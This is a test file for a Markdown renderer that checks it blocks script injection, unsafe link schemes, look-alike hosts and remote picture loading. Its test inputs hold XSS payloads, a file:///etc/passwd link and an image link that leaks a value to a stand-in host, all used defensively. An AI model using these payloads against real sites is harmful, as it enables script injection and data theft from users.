import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { plainWords } from "./plain-words.ts";
import { renderMarkdown } from "./render-markdown.ts";
import { safeLink } from "./safe-link.ts";

interface Seen {
  /** The templates' own markup, written by us. */
  markup: string;
  /** Everything that came in through bindings. */
  bound: string[];
  /** What is bound to href. */
  hrefs: string[];
}

/** Walks a template as the renderer would, without a document. */
const look = (value: unknown, seen: Seen = { markup: "", bound: [], hrefs: [] }): Seen => {
  if (Array.isArray(value)) for (const item of value) look(item, seen);
  else if (typeof value === "string" || typeof value === "number") seen.bound.push(String(value));
  else if (typeof value === "object" && value !== null && "strings" in value && "values" in value) {
    const strings = value.strings as readonly string[]; // a TemplateResult
    const values = value.values as readonly unknown[];
    strings.forEach((text, index) => {
      seen.markup += text;
      if (text.endsWith("href=")) seen.hrefs.push(String(values[index]));
      if (index < values.length) look(values[index], seen);
    });
  }
  return seen;
};
const render = (text: string): Seen => look(renderMarkdown(text));

describe("renderMarkdown", () => {
  it("renders what people write", () => {
    const seen = render(
      "# Plan\n\n- one **bold**\n- two `code`\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n```js\nlet x;\n```\n\n> q\n\n1. x\n\n---\n~~no~~ *yes*\\*",
    );
    for (const tag of [
      "<h3>",
      "<ul>",
      "<strong>",
      "<code>",
      "<table>",
      "<pre",
      "<blockquote>",
      "<ol",
      "<hr",
      "<del>",
      "<em>",
    ]) {
      expect(seen.markup).toContain(tag);
    }
    expect(seen.bound).toContain("let x;");
  });

  it("shows HTML as text and never as markup", () => {
    const attack = `<img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n<iframe src="javascript:alert(3)"></iframe>`;
    const seen = render(attack);
    expect(seen.markup).not.toMatch(/<(img|script|iframe)/);
    expect(seen.bound.join("")).toContain("<script>");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/v2/sessions/current)",
    "[x](blob:https://a/b)",
    "[x](https://bank.example@evil.example/)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](&#106;avascript:alert(1))",
  ])("makes no link of %s", (text) => {
    expect(render(text).hrefs).toEqual([]);
  });

  it("opens a link outside, tells nobody where from, and shows its host", () => {
    const seen = render("[your bank](https://evil.example/login)");
    expect(seen.hrefs).toEqual(["https://evil.example/login"]);
    expect(seen.markup).toContain('rel="noopener noreferrer"');
    expect(seen.bound).toContain("evil.example");
  });

  it("shows a look-alike host in its ASCII form", () => {
    expect(render("[paypal](https://pаypal.com)").bound).toContain("xn--pypal-4ve.com");
  });

  it("never loads a picture", () => {
    const seen = render("![secret](https://evil.example/?leak=4812)");
    expect(seen.markup).not.toMatch(/<img|src=|url\(/);
    expect(seen.bound.join(" ")).toContain("picture, not loaded: secret");
    expect(seen.bound).toContain("evil.example");
  });

  it("reads entities as characters", () => {
    expect(render("a &lt;b&gt; &amp; c").bound.join("")).toContain("a <b> & c");
  });

  it("shows very deep nesting as its source", () => {
    expect(render(`${"> ".repeat(2000)}deep`).bound.join("")).toContain("deep");
  });

  it("shows a very long text as written", () => {
    expect(render("*a*".repeat(100_000)).bound[0]).toHaveLength(300_000);
  });

  it("binds only safe addresses, whatever the text", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            "[",
            "](",
            ")",
            "!",
            "<",
            ">",
            "javascript:",
            "https://a.b",
            "x",
            "\n",
            "`",
            "|",
            "- ",
            "&#x6a;",
            '"',
            " ",
          ),
        ),
        (pieces) => {
          const seen = render(pieces.join(""));
          for (const href of seen.hrefs) expect(href).toMatch(/^(https?|mailto):/);
          expect(seen.markup).not.toMatch(/<(script|img|iframe|style|svg|object)|\son\w+=|srcset|style=/i);
        },
      ),
    );
  });
});

describe("safeLink, unplugged", () => {
  it("would hand a script to the page", () => {
    const unplugged = (href: string): { readonly href: string } => ({ href });
    expect(unplugged("javascript:alert(1)").href).toMatch(/^javascript:/);
    expect(safeLink("javascript:alert(1)")).toBeNull();
  });
});

describe("plainWords", () => {
  it("reads like a sentence", () => {
    expect(plainWords("## Done\n\nSee **[docs](https://a.b)** `x`\n```\ncode\n```")).toBe("Done See docs x code");
  });
});
